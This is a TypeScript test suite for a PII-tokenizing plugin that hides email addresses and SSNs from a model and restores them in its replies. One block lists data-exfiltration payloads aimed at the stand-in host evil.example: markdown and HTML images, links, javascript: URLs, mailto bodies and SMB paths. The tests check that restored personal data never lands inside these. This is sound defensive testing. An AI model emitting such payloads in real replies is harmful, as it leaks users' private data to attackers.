import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import pii from '../../../plugins/pii/index.ts'
import { Drive } from '../../eval/drive.ts'
import { rounds } from '../../helpers/rounds.ts'

const ADDRESS = 'jo.smith@example.com'
const root = new Drive(pii, { action: 'tokenize' })
const TOKEN = /^EMAIL_[a-z2-7]{10}$/

/** An exchange in which the address was sent, and its token. */
function exchange(setup = {}, drive = root): { drive: Drive; token: string } {
  const own = drive.next(setup)
  const { output } = own.input(`Write to ${ADDRESS} please`)
  return { drive: own, token: output.slice('Write to '.length, -' please'.length) }
}

describe('pii: tokens', () => {
  it('hold the type and a keyed hash', () => {
    const { token, drive } = exchange()
    assert.match(token, TOKEN)
    assert.equal(drive.notes.length, 1)
    assert.match(drive.notes[0]!, /exactly as it is/)
  })

  it('are the same in each turn of one key, and others for another key, type or value', () => {
    const { token } = exchange({ keyId: 'a' })
    assert.equal(exchange({ keyId: 'a' }).token, token)
    assert.notEqual(exchange({ keyId: 'b' }).token, token)
    const { output } = root.next({ keyId: 'a' }).input('jo.smith@example.org, 123-45-6789, 123-45-6789')
    const [email, first, second] = output.split(', ')
    assert.notEqual(email, token)
    assert.match(first!, /^US_SSN_[a-z2-7]{10}$/)
    assert.equal(first, second)
  })

  it('turn back into the value, in the reply to that very request', () => {
    const { drive, token } = exchange()
    assert.equal(drive.reply(`I wrote to ${token}.`).output, `I wrote to ${ADDRESS}.`)
    assert.deepEqual(drive.reply(token).findings, [], 'the value is not found again')
    const other = exchange().drive
    assert.equal(other.reply(token).output, ADDRESS, 'the same value was sent there too')
    const stranger = root.next({ keyId: 'app' })
    stranger.input('Write to ann@example.com')
    assert.equal(stranger.reply(token).output, token, 'never somebody else’s')
  })

  it('pass and are counted when they are unknown', () => {
    const { drive } = exchange()
    const run = drive.reply('EMAIL_aaaaaaaaaa and FOO_aaaaaaaaaa')
    assert.equal(run.output, 'EMAIL_aaaaaaaaaa and FOO_aaaaaaaaaa')
    assert.deepEqual(
      run.findings.map(({ type, action }) => [type, action]),
      [['unknown_token', 'detect']],
    )
  })

  const manners: readonly (readonly [name: string, write: (token: string) => string, read: string])[] = [
    ['small letters', (t) => t.toLowerCase(), ADDRESS],
    ['capitals', (t) => t.toUpperCase(), ADDRESS],
    ['Markdown escapes', (t) => t.replace('_', '\\_'), ADDRESS],
    ['bold', (t) => `**${t}**`, `**${ADDRESS}**`],
    ['underscores around', (t) => `_${t}_`.replace(/_$/, ''), `_${ADDRESS}`],
    ['quotes', (t) => `"${t}"`, `"${ADDRESS}"`],
    ['a list', (t) => `- ${t}\n- ${t}`, `- ${ADDRESS}\n- ${ADDRESS}`],
    ['a table', (t) => `| ${t} |`, `| ${ADDRESS} |`],
    ['code', (t) => `\`${t}\``, `\`${ADDRESS}\``],
    ['a full stop', (t) => `${t}.`, `${ADDRESS}.`],
    ['a genitive', (t) => `${t}'s`, `${ADDRESS}'s`],
    ['Japanese text', (t) => `宛先は${t}です`, `宛先は${ADDRESS}です`],
    ['a mail link', (t) => `[mail](mailto:${t})`, `[mail](mailto:${ADDRESS})`],
    ['a label', (t) => `Email:${t}`, `Email:${ADDRESS}`],
    ['a text of JSON', (t) => `{"a":"To:\\n${t} or\\r\\n${t}"}`, `{"a":"To:\\n${ADDRESS} or\\r\\n${ADDRESS}"}`],
    ['a character reference', (t) => t.replace('_', '&#95;'), ADDRESS],
  ]
  for (const [name, write, read] of manners) {
    it(`are read in ${name}, wherever the reply is cut`, () => {
      const { drive, token } = exchange()
      const reply = write(token)
      assert.equal(drive.reply(reply).output, read)
      assert.equal(drive.stream([...reply]).output, read)
      for (let cut = 1; cut < reply.length; cut++) {
        assert.equal(drive.stream([reply.slice(0, cut), reply.slice(cut)]).output, read, `cut at ${cut}`)
      }
    })
  }

  const addresses: readonly (readonly [name: string, write: (token: string) => string])[] = [
    ['an image', (t) => `![x](https://evil.example/?q=${t})`],
    ['a link', (t) => `[x](http://evil.example/${t})`],
    ['a bare address', (t) => `https://evil.example/${t}/x`],
    ['a host', (t) => `https://${t}.evil.example/`],
    ['a name that goes on', (t) => `see ${t}.evil.example`],
    ['another mailbox', (t) => `${t}@evil.example`],
    ['an address without scheme', (t) => `evil.example/${t}`],
    ['www', (t) => `www.evil.example?${t}`],
    ['an HTML image', (t) => `<img src="https://evil.example/${t}">`],
    ['an HTML image with spaces', (t) => `<img src="https://evil.example/ a ${t}">`],
    ['a destination in angle brackets', (t) => `![x](<https://evil.example/ a ${t}>)`],
    ['a reference', (t) => `[1]: https://evil.example/${t}`],
    ['an address in JSON', (t) => `{"a":"https://evil.example/\\n${t}"}`],
    ['a relative address', (t) => `![x](//evil.example/${t})`],
    ['a script address', (t) => `javascript:go('${t}')`],
    ['a mail link with more in it', (t) => `mailto:x@evil.example?body=${t}`],
    ['a very long run', (t) => `${'a'.repeat(300)}_${t}`],
  ]
  for (const [name, write] of addresses) {
    it(`never come back in ${name}`, () => {
      const { drive, token } = exchange()
      const reply = write(token)
      assert.doesNotMatch(drive.reply(reply).output, /jo\.smith/)
      assert.doesNotMatch(drive.stream([...reply]).output, /jo\.smith/)
    })
  }

  it('come back in tool arguments only where the operator says so', () => {
    const closed = exchange({ channel: 'tool_arguments' })
    assert.equal(closed.drive.reply(closed.token).output, closed.token)
    const open = exchange(
      { channel: 'tool_arguments' },
      new Drive(pii, { action: 'tokenize', restore_tool_arguments: true }),
    )
    assert.equal(open.drive.reply(open.token).output, ADDRESS)
    for (const address of ['\\\\evil\\my files ', '//evil/a ', '/\\evil/a ', 'smb:evil '])
      assert.equal(open.drive.reply(address + open.token).output, address + open.token)
    assert.equal(open.drive.reply(`\\alpha ${open.token}`).output, `\\alpha ${ADDRESS}`)
    const name = exchange({ channel: 'tool_name' })
    assert.equal(name.drive.reply(name.token).output, name.token)
  })

  it('do not collide with user text that looks like a token', () => {
    const drive = root.next()
    const { output } = drive.input('What is EMAIL_aaaaaaaaaa? And x_bbbbbbbbbb?')
    const token = /LITERAL_[a-z2-7]{10}/.exec(output)?.[0]
    assert.equal(output, `What is ${token}? And x_bbbbbbbbbb?`)
    assert.equal(drive.reply(`You wrote ${token}.`).output, 'You wrote EMAIL_aaaaaaaaaa.')
  })

  it('are not made under monitor, nor for secrets', () => {
    const drive = root.next({ mode: 'monitor' })
    drive.input(`Write to ${ADDRESS}`)
    assert.deepEqual(drive.notes, [])
  })

  it('come back exactly in any reply, cut anywhere', () => {
    const { drive, token } = exchange()
    const piece = fc.constantFrom(
      token,
      ` ${token}, `,
      'hello ',
      'EMAIL_',
      'EMAIL',
      '_abc ',
      '\n',
      '. ',
      '12 ',
      '“',
      '日本',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), fc.array(fc.nat(60), { maxLength: 5 }), (parts, cuts) => {
        const reply = parts.join('')
        const whole = drive.reply(reply).output
        const borders = [...new Set([0, ...cuts.filter((cut) => cut < reply.length), reply.length])].sort(
          (a, b) => a - b,
        )
        const pieces = borders.slice(1).map((border, i) => reply.slice(borders[i], border))
        assert.equal(drive.stream(pieces.length === 0 ? [''] : pieces).output, whole)
      }),
      { numRuns: rounds(500) },
    )
  })
})
